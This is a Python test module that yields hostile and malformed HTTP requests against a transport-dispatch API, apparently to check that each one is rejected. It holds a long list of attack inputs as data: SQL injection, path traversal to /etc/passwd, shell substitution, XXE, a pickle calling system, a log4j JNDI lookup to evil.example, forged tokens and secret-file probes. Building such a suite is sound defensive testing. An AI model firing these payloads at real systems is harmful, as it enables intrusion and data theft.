"""Requests that mean harm, or are broken, each with its name: what nobody may get anything from."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

CLIENT = {"name": "Helena Maj", "home": "dom-K-01"}
TOKEN: dict[str, Any] = {"name": "x", "scopes": ["town.read"], "days": 1}
PLACE: dict[str, Any] = {"name": "X", "address": "Y", "entrances": [{"lat": 51.0, "lon": 21.0}]}
USER: dict[str, Any] = {"sign_in": "x", "name": "X", "role": "dispatcher"}
JSON: dict[str, Any] = {"Content-Type": "application/json"}
TEXTS = {
    "sql-or": "' OR '1'='1",
    "sql-union": "x' UNION SELECT name, password FROM users --",
    "sql-drop": "K-01'; DROP TABLE clients; --",
    "sql-sleep": "1; SELECT pg_sleep(10)",
    "sql-comment": "K-01/**/",
    "up": "../../../../etc/passwd",
    "up-windows": "..\\..\\windows\\win.ini",
    "up-twice": "..%252f..%252fetc%252fpasswd",
    "file-url": "file:///etc/passwd",
    "nul": "K-01\0",
    "crlf": "K-01\r\nSet-Cookie: dojazd=x",
    "markup": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}#{7*7}",
    "format": "{0.__class__.__mro__}%s%n",
    "shell": "$(id)`id`|id",
    "ldap": "*)(uid=*))(|(uid=*",
    "formula": '=1+1 <b>O\'Łódź #read("x")',
    "right-to-left": "\u202egnp.exe",
    "joined": "a" + "\u0301" * 400,
    "emoji": "👨‍👩‍👧‍👦" * 20,
    "not-a-character": "\uffff\ufdd0",
    "long": "x" * 5000,
    "empty": " ",
    "dots": "..",
    "log4j": "${jndi:ldap://evil.example/a}",
}
BODIES: dict[str, bytes] = {
    "empty": b"",
    "half": b'{"name": "x"',
    "two": b"{} {}",
    "array": b"[]",
    "null": b"null",
    "text": b'"x"',
    "number": b"1",
    "nan": b'{"name": NaN, "home": "dom-K-01"}',
    "infinity": b'{"name": "x", "home": "dom-K-01", "birth_year": -Infinity}',
    "huge-float": b'{"name": "x", "home": "dom-K-01", "birth_year": 1e999}',
    "huge-int": b'{"name": "x", "home": "dom-K-01", "birth_year": ' + b"9" * 5000 + b"}",
    "65-bits": b'{"name": "x", "home": "dom-K-01", "birth_year": 18446744073709551616}',
    "deep-arrays": b"[" * 100_000,
    "deep-objects": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
    "deep-in-place": b'{"name": ' + b"[" * 40 + b"]" * 40 + b"}",
    "twice": b'{"name": "x", "name": "y", "home": "dom-K-01"}',
    "twice-inside": b'{"name": "x", "home": "dom-K-01", "access": {"floor": 1, "floor": 2}}',
    "surrogate": b'{"name": "\\ud800", "home": "dom-K-01"}',
    "surrogate-key": b'{"\\udfff": 1, "name": "x", "home": "dom-K-01"}',
    "nul": b'{"name": "a\\u0000b", "home": "dom-K-01"}',
    "latin-2": '{"name": "Łódź", "home": "dom-K-01"}'.encode("iso8859-2"),
    "utf-16": '{"name": "x", "home": "dom-K-01"}'.encode("utf-16"),
    "bom": b"\xef\xbb\xbf" + b'{"name": "x", "home": "dom-K-01"}',
    "overlong": b'{"name": "\xc0\xaf", "home": "dom-K-01"}',
    "comment": b'{"name": "x", /* y */ "home": "dom-K-01"}',
    "single": b"{'name': 'x'}",
    "trailing": b'{"name": "x", "home": "dom-K-01",}',
    "hex": b'{"name": "x", "home": "dom-K-01", "birth_year": 0x7D0}',
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "form": b"name=x&home=dom-K-01",
    "pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "zip": b"PK\x03\x04" + bytes(200),
    "proto": b'{"__proto__": {"role": "administrator"}, "name": "x", "home": "dom-K-01"}',
    "mass": b'{"name": "x", "home": "dom-K-01", "id": "K-01", "town_id": "chelm"}',
    "too-large": b'{"name": "' + b"x" * 1_100_000 + b'"}',
}
FIELDS: dict[str, Any] = {
    "name-missing": {"name": None},
    "name-empty": {"name": ""},
    "name-number": {"name": 7},
    "name-list": {"name": ["x"]},
    "name-long": {"name": "x" * 201},
    "home-other-town": {"home": "only-chelm"},
    "home-nowhere": {"home": "' OR 1=1 --"},
    "home-object": {"home": {"$ne": None}},
    "year-text": {"birth_year": "1941"},
    "year-true": {"birth_year": True},
    "year-half": {"birth_year": 1941.5},
    "year-far": {"birth_year": 99_999},
    "floor-far": {"access": {"floor": 10**9}},
    "weight-negative": {"mobility": "wheelchair", "wheelchair": {"weight_with_person_kg": -1}},
    "lift-word": {"needs_lift": "yes"},
    "mobility-unknown": {"mobility": "flies"},
    "sex-unknown": {"sex": "x' --"},
    "staff-unknown": {"preferred": ["../P-01"]},
    "staff-many": {"excluded": ["P-01"] * 51},
    "contacts-many": {"contacts": [{"name": "x", "phone": "1"}] * 21},
    "contact-more": {"contacts": [{"name": "x", "phone": "1", "admin": True}]},
    "times-negative": {"service_times_s": {"fizjoterapia": -5}},
    "times-huge": {"service_times_s": {"fizjoterapia": 10**12}},
    "times-text": {"service_times_s": {"fizjoterapia": "60"}},
    "times-unknown": {"service_times_s": {"constructor": 60}},
    "note-long": {"notes": {"driver": "x" * 4001}},
    "more": {"role": "administrator"},
}


TYPES = (
    "text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "",
    "application/json-patch+json", "application/jsonx", "json", "application/json, text/plain",
)  # fmt: skip
"""Of a body that is JSON."""
KEYS = ("", " ", "x" * 201, "a b", "a\tb", "\x7f")
"""Idempotency keys."""
TAGS = (
    '"0"', '"-1"', '"9999999999999999999999"', "*", 'W/"1"', "'1'", '"1" OR 1=1', '"1", "2"', "", '"\u00b2"',
)  # fmt: skip
"""Versions that nobody has seen."""
SHOWN = (
    "Bearer", "Bearer ", "Bearer x", "Basic YWRtaW46YWRtaW4=", "Bearer " + "x" * 5000, "Bearer dojazd_' OR 1=1",
    "Digest username=x", "bearer null", "Bearer eyJhbGciOiJub25lIn0.e30.",
)  # fmt: skip
COOKIES = (
    "dojazd=", "dojazd=x", "dojazd=' OR 1=1", "dojazd=" + "x" * 6000, "__Host-dojazd=x", "=;=;", "dojazd=\x7f",
)  # fmt: skip
ORIGINS = ("https://evil.example", "null", "http://127.0.0.1", "http://127.0.0.1:8000.evil.example", "//", "*")
HEADERS: dict[str, str | bytes] = {
    "Host": "evil.example",
    "X-Forwarded-For": "127.0.0.1",
    "X-Forwarded-Host": "evil.example",
    "X-Original-URL": "/api/v1/users",
    "X-HTTP-Method-Override": "DELETE",
    "Range": "bytes=0-999999999",
    "Accept": "../../etc",
    "X-Request-Id": "a\u2028b".encode(),
}
PATHS = (
    "/.env", "/.git/config", "/api", "/api/", "/api/v1", "/api/v1/", "//api/v1/clients", "/api/v1/clients/",
    "/api/v1//clients", "/api/v1/./clients", "/api/v2/clients", "/docs", "/redoc", "/static/../app.py",
    "/%2e%2e/%2e%2e/etc/passwd", "/api/v1/clients%00", "/API/V1/CLIENTS", "/api/v1/clients;x=1", "/dojazd.sqlite",
    "/master.key", "/openapi.yaml", "/debug", "/console", "/phpmyadmin", "/actuator/env",
)  # fmt: skip
METHODS = ("TRACE", "CONNECT", "PATCH", "OPTIONS", "PROPFIND", "X" * 40, "HEAD", "DELETE")
QUERIES = (
    "limit=0", "limit=-1", "limit=201", "limit=1e3", "limit=9" + "9" * 300, "limit=", "limit=NaN", "cursor=%00",
    "cursor=W10", "cursor=WzEsMl0", "cursor=" + "W" * 1999, "name=" + "x" * 101, "name=%ff%fe", "name[$ne]=x",
    "limit=1&limit=2", "&".join(f"a{k}=1" for k in range(2000)),
)  # fmt: skip
POINTS: dict[str, tuple[Any, Any]] = {
    "far": (91, 21), "text": ("51", "21"), "true": (True, 21), "none": (None, 21),
}  # fmt: skip
"""Latitude and longitude."""
CODES = ("000000", "12345", "1234567", "abcdef", "\uff11\uff12\uff13\uff14\uff15\uff16", "-12345", "12 345")
"""Of an authenticator app."""
SETUPS: tuple[dict[str, Any], ...] = (
    {"setup_code": ""}, {"setup_code": "AAAAA-AAAAA"}, {"setup_code": "' OR 1=1", "town_id": "chelm"},
)  # fmt: skip
USERS: tuple[dict[str, Any], ...] = (
    {"role": "god"}, {"role": "worker"}, {"staff_id": "P-01"}, {"role": "worker", "staff_id": "P-99"},
    {"active": "false"}, {"password": "short"}, {"sign_in": "dispatcher@starachowice"}, {"id": "U-1"},
    {"role": "provider", "provider_id": "przewoznik"}, {"version": 9}, {"totp": "A"},
)  # fmt: skip
"""What is wrong with a new user."""
TOKENS: tuple[dict[str, Any], ...] = (
    {"days": 0}, {"days": 9999}, {"days": "1"}, {"scopes": []}, {"scopes": "town.read"}, {"name": ""},
    {"scopes": ["town.read"] * 51}, {"town_id": "chelm"}, {"digest": "x"},
)  # fmt: skip
"""What is wrong with a new token."""


@dataclass(frozen=True)
class Hostile:
    """One request; `by` is the role that sends it, or nobody."""

    name: str
    method: str
    path: str
    by: str = "dispatcher"
    more: dict[str, Any] = field(default_factory=dict)


def hostile() -> Iterator[Hostile]:
    """Yield all of them."""
    for name, text in TEXTS.items():
        path = quote(text, safe="")
        yield Hostile(f"client-{name}", "GET", f"/api/v1/clients/{path}")
        put: dict[str, Any] = {"json": PLACE, "headers": {"If-Match": '"1"'}}
        yield Hostile(f"place-{name}", "PUT", f"/api/v1/places/{path}", more=put)
        yield Hostile(f"search-{name}", "GET", "/api/v1/clients", more={"params": {"cursor": text}})
        yield Hostile(f"places-{name}", "GET", "/api/v1/places", more={"params": {"cursor": text}})
        yield Hostile(f"audit-{name}", "GET", f"/api/v1/audit?cursor={path}", "administrator")
        yield Hostile(f"sign-in-{name}", "POST", "/api/v1/session", "nobody",
                      {"json": {"sign_in": text, "password": text}})  # fmt: skip
        yield Hostile(f"phone-{name}", "POST", "/api/v1/phone-session", "nobody", {"json": {"code": text}})
        yield Hostile(f"user-{name}", "POST", "/api/v1/users", "administrator", {"json": {**USER, "sign_in": text}})
        yield Hostile(f"token-{name}", "DELETE", f"/api/v1/tokens/{path}", "administrator")
        yield Hostile(f"scope-{name}", "POST", "/api/v1/tokens", "administrator",
                      {"json": {"name": "x", "scopes": [text], "days": 1}})  # fmt: skip
    for name, body in BODIES.items():
        yield Hostile(f"body-{name}", "POST", "/api/v1/clients", more={"content": body, "headers": JSON})
        yield Hostile(f"sign-in-body-{name}", "POST", "/api/v1/session", "nobody", {"content": body, "headers": JSON})
    for name, change in FIELDS.items():
        body = json.dumps({**CLIENT, **change}).encode()
        yield Hostile(f"field-{name}", "POST", "/api/v1/clients", more={"content": body, "headers": JSON})
    yield from _headers()
    yield from _places()
    yield from _elsewhere()
    yield from _accounts()


def _headers() -> Iterator[Hostile]:
    good, path = json.dumps(CLIENT).encode(), "/api/v1/clients"
    sent = {
        **{f"type-{one or 'none'}": {"Content-Type": one} for one in TYPES},
        **{f"key-{one[:5]!r}": {**JSON, "Idempotency-Key": one} for one in KEYS},
        **{f"origin-{one}": {**JSON, "Origin": one} for one in ORIGINS},
    }
    for name, headers in sent.items():
        yield Hostile(name, "POST", path, more={"content": good, "headers": headers})
    for tag in TAGS:
        more = {"content": good, "headers": {**JSON, "If-Match": tag.encode()}}
        yield Hostile(f"match-{tag}", "PUT", f"{path}/K-01", more=more)
    yield Hostile("match-none", "PUT", f"{path}/K-01", more={"content": good, "headers": JSON})
    for shown in SHOWN:
        yield Hostile(f"token-{shown[:20]}", "GET", path, "nobody", {"headers": {"Authorization": shown}})
    for cookie in COOKIES:
        yield Hostile(f"cookie-{cookie[:20]}", "GET", path, "nobody", {"headers": {"Cookie": cookie}})
    for name, value in HEADERS.items():
        yield Hostile(f"header-{name}", "GET", "/api/v1/users", more={"headers": {name: value}})


def _places() -> Iterator[Hostile]:
    for name, point in POINTS.items():
        body: dict[str, Any] = {**PLACE, "entrances": [{"lat": point[0], "lon": point[1]}]}
        yield Hostile(f"point-{name}", "POST", "/api/v1/places", more={"json": body})
    yield Hostile("no-door", "POST", "/api/v1/places", more={"json": {**PLACE, "entrances": []}})
    doors = [{"lat": 51.0, "lon": 21.0}] * 21
    yield Hostile("many-doors", "POST", "/api/v1/places", more={"json": {**PLACE, "entrances": doors}})
    yield Hostile("nan-point", "POST", "/api/v1/places", more={
        "content": b'{"name":"x","address":"y","entrances":[{"lat":NaN,"lon":1}]}', "headers": JSON})  # fmt: skip


def _elsewhere() -> Iterator[Hostile]:
    for path in PATHS:
        yield Hostile(f"path-{path}", "GET", path, "nobody")
    for method in METHODS:
        yield Hostile(f"method-{method[:10]}", method, "/api/v1/clients")
    for query in QUERIES:
        yield Hostile(f"query-{query[:20]}", "GET", f"/api/v1/clients?{query}")


def _accounts() -> Iterator[Hostile]:
    for code in CODES:
        yield Hostile(f"totp-{code}", "PUT", "/api/v1/session/totp", more={"json": {"code": code}})
    for body in SETUPS:
        more: dict[str, Any] = {"json": {"sign_in": "x", "name": "X", "password": "cztery slowa obok siebie", **body}}
        yield Hostile(f"setup-{body['setup_code']}", "POST", "/api/v1/setup", "nobody", more)
    for user in USERS:
        yield Hostile(f"user-{user}", "POST", "/api/v1/users", "administrator", {"json": {**USER, **user}})
    for token in TOKENS:
        made = {**TOKEN, **token}
        yield Hostile(f"token-{token}"[:40], "POST", "/api/v1/tokens", "administrator", {"json": made})
